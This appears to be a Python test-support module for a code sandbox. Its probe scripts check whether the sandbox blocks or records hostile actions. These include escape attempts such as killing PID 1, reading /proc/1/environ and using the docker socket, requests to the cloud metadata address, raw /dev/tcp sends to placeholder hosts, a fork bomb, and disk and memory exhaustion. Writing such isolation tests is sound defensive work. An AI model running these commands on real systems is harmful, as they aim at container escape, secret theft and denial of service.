"""The rooms that promises are tried in: each is run once and looked at by several promises."""

# ruff: noqa: E501 - one promise, one probe a line: a table that reads best when it is not wrapped.

from functools import cached_property

from sandbox.base import Command, Event, Job, Limits, Outcome, RoomFile, Sandbox

ODD_NAMES = ("with space", "ünïcode-名", "-dash", "new\nline", "quote'\"s", "#hash", "$dollar")
MANY = 600

_WALLS = r"""
say() { printf '%s=%s\n' "$1" "$2"; }
try() { name=$1; shift; if "$@" >/dev/null 2>&1; then say "$name" yes; else say "$name" no; fi; }
say uid "$(id -u)"; say groups "$(id -G)"
for field in CapEff CapBnd CapPrm NoNewPrivs Seccomp; do say $field "$(awk -v f=$field: '$1 == f {print $2}' /proc/self/status)"; done
try write_root touch /x; try write_usr touch /usr/x; try write_etc touch /etc/x
try docker_sock test -e /var/run/docker.sock
try mknod mknod /tmp/n c 1 3; try mount mount -t tmpfs none /tmp; try unshare unshare -Ur true; try netns unshare -n true
try dmesg dmesg; try date date -s 2030-01-01; try sysctl sh -c 'echo 1 > /proc/sys/kernel/panic'
try core sh -c 'echo x > /proc/sys/kernel/core_pattern'; try cgroup sh -c 'echo 1 > /sys/fs/cgroup/memory/memory.limit_in_bytes'
try private ls /run/room; try kill_guard kill -9 1; try guard_env cat /proc/1/environ; try guard_mem dd if=/proc/1/mem count=1
say setuid "$(find / -xdev -type f -perm /6000 2>/dev/null | wc -l)"
say interfaces "$(awk -F: 'NR > 2 {gsub(" ", "", $1); print $1}' /proc/net/dev | grep -v -e '^lo$' -e tunl -e sit -e gre -e ip6 -e erspan -e vti | wc -l)"
try chroot chroot / true
python3 - <<'PY'
import ctypes, os, socket, threading
libc = ctypes.CDLL(None, use_errno=True)
for name, number in (("io_uring", 425), ("bpf", 321), ("userfaultfd", 323), ("keyctl", 250), ("perf", 298), ("kexec", 246), ("setns", 308), ("init_module", 175)):
    print(f"{name}={'yes' if libc.syscall(number, 0, 0, 0, 0, 0) >= 0 else 'no'}")
def ends(*call):
    child = os.fork()
    if child == 0:
        libc.syscall(*call); os._exit(0)
    return os.WIFSIGNALED(os.waitpid(child, 0)[1])
print(f"other_machine={'no' if ends(0x40000000 | 39) else 'yes'}"); print(f"listener={'no' if ends(317, 1, 8, None) else 'yes'}")
child = libc.syscall(56, 0x00800000 | 17, 0, 0, 0, 0)
if child == 0:
    os._exit(0)
print(f"untraced_child={'yes' if child > 0 else 'no'}")
for host in ("1.1.1.1", "172.17.0.1", "169.254.169.254", "10.0.0.1"):
    link = socket.socket(); link.settimeout(2)
    print(f"reach_{host}={'no' if link.connect_ex((host, 80)) else 'yes'}")
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print("raw_socket=yes")
except OSError:
    print("raw_socket=no")
PY
"""
_DEEDS = r"""
cat /home/agent/secret.txt > /dev/null; echo new > /home/agent/made.txt; mv /home/agent/made.txt /home/agent/moved.txt
chmod 600 /home/agent/moved.txt; ln -s /etc/passwd /home/agent/link; rm /home/agent/moved.txt
ln -s /home/agent/deep /workspace/way; cat /workspace/way/far.txt > /dev/null
(exec -a grandchild sh -c 'cat /home/agent/other.txt > /dev/null'); kill -9 1 2>/dev/null; pkill -9 strace
python3 -c "import socket; socket.socket().connect_ex(('192.0.2.7', 8080))"
"""
_SENDS = r"""
curl -sS -m 8 -d 'body=one' https://names.example/path > a; curl -sSk -m 8 https://192.0.2.9:8443/ > b
curl -sS -m 8 http://[2001:db8::5]/six > c; curl -sS -m 8 http://169.254.169.254/latest/meta-data/ > d
curl -sS -m 8 http://172.17.0.1:9999/host > e; curl -sS -m 8 --proxy http://10.3.2.1:3128 https://behind.example/proxied > f
exec 3<>/dev/tcp/192.0.2.10/4444; echo RAW-BYTES >&3; exec 3>&-; echo UDP-BYTES > /dev/udp/192.0.2.11/999
python3 - <<'PY'
import http.server, threading, urllib.request
server = http.server.HTTPServer(("127.0.0.1", 8765), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
print("own", urllib.request.urlopen("http://127.0.0.1:8765/").status)
PY
"""
_ASKEW = r"""
echo fine > fine.txt; ln -s /etc/passwd link; mkfifo pipe; ln pipe pipe2; mkdir -p deep/er; echo d > deep/er/file
truncate -s 40M sparse; printf x > $'odd\nname'; ln -s / rootlink; chmod 000 deep/er/file
"""


class Probes:
    """Each property is one room, run when first asked for."""

    def __init__(self, sandbox: Sandbox) -> None:
        self.sandbox = sandbox

    def bash(self, script: str, **wanted: object) -> Outcome:
        limits = wanted.pop("limits", Limits(wall_seconds=30))
        return self.sandbox.run(Job(command=["bash", "-c", script], limits=limits, **wanted))

    @cached_property
    def walls_room(self) -> Outcome:
        return self.bash(_WALLS, traced=False)

    @cached_property
    def walls(self) -> dict[str, str]:
        lines = self.walls_room.stdout.decode().splitlines()
        return dict(line.split("=", 1) for line in lines if "=" in line)

    @cached_property
    def talks(self) -> Outcome:
        script = 'cat; printf \'\\n%s|%s|%s|%s\' "$PWD" "$GREETING" "$HOME" "$(env | wc -l)"; echo err >&2; exit 7'
        return self.bash(script, stdin=b"from stdin", env={"GREETING": "hello"}, workdir="/workspace/deep", files=[
            RoomFile("/workspace/deep/x", b"x")])  # fmt: skip

    @cached_property
    def every_byte(self) -> Outcome:
        return self.sandbox.run(Job(command=["python3", "-c", "import os; os.write(1, bytes(range(256)) * 16)"]))

    @cached_property
    def laid(self) -> Outcome:
        files = [RoomFile(f"/workspace/odd/{name}", name.encode()) for name in ODD_NAMES]
        files += [RoomFile("/workspace/run.sh", b"#!/bin/sh\necho ran\n", executable=True)]
        files += [RoomFile("/tests/big", bytes(5_000_000)), RoomFile("/home/agent/x/y/z", b"deep")]
        return self.bash(
            "./run.sh; stat -c %s /tests/big; cat /home/agent/x/y/z", files=files, copy_out=["/workspace"], traced=False
        )

    @cached_property
    def several(self) -> Outcome:
        commands = [
            Command(["bash", "-c", "echo one > f; (sleep 20; echo late > late) & sleep 0.1"]),
            Command(["bash", "-c", "cat f; pgrep -c sleep"]),
            Command(["bash", "-c", "trap '' TERM; sleep 30"], timeout=0.5),
            Command(["no-such-program"]),
            Command(["bash", "-c", "echo last"]),
        ]
        return self.sandbox.run(Job(commands=commands, copy_out=["/workspace"]))

    @cached_property
    def deeds(self) -> Outcome:
        files = [
            RoomFile("/home/agent/secret.txt", b"s"),
            RoomFile("/home/agent/other.txt", b"o"),
            RoomFile("/home/agent/deep/far.txt", b"f"),
        ]
        return self.bash(_DEEDS, files=files)

    @cached_property
    def sends(self) -> Outcome:
        return self.bash(_SENDS, network="false-world", limits=Limits(wall_seconds=60))

    @cached_property
    def stubborn(self) -> Outcome:
        return self.bash("trap '' TERM INT HUP; while :; do sleep 1; done", limits=Limits(wall_seconds=1.5))

    @cached_property
    def forks(self) -> Outcome:
        return self.bash("bomb() { bomb | bomb & }; bomb; sleep 1; :", limits=Limits(wall_seconds=4, pids=64))

    @cached_property
    def memory(self) -> Outcome:
        return self.bash("python3 -c 'x = bytearray(1 << 30)'", limits=Limits(wall_seconds=20, memory_mb=128))

    @cached_property
    def fills(self) -> Outcome:
        script = (
            "dd if=/dev/zero of=/tmp/a bs=1M count=20; dd if=/dev/zero of=/tmp/b bs=1M count=20; du -sm /tmp | cut -f1;"
            " cd /workspace; for i in $(seq 900); do : > f$i; done; ls | wc -l; rm -f f*;"
            " dd if=/dev/zero of=/dev/shm/s bs=1M count=30; du -sm /dev/shm | cut -f1;"
            " python3 -c 'import os\nn = 0\ntry:\n  while True: os.open(\"/\", 0); n += 1\nexcept OSError: print(n)'"
        )
        return self.bash(script, limits=Limits(wall_seconds=20, disk_mb=24, inodes=512, files=200), traced=False)

    @cached_property
    def floods(self) -> Outcome:
        return self.bash("yes flood", limits=Limits(wall_seconds=20, output_bytes=100_000))

    @cached_property
    def askew(self) -> Outcome:
        return self.bash(_ASKEW, copy_out=["/workspace"], limits=Limits(wall_seconds=20, copy_out_bytes=1_000_000))

    @cached_property
    def crowd(self) -> Outcome:
        script = f"for i in $(seq {MANY}); do echo $i > f$i; done"
        return self.bash(script, copy_out=["/workspace"], limits=Limits(copy_out_files=50), traced=False)

    def deed(self, kind: str, **told: object) -> list[Event]:
        """Events of the deeds room of this kind whose details are as told."""
        events = [*self.deeds.events]
        return [one for one in events if one.kind == kind and all(one.detail.get(k) == v for k, v in told.items())]

    def sent(self, host: str) -> bytes:
        return b"".join(flow.data for flow in self.sends.flows if flow.host == host)
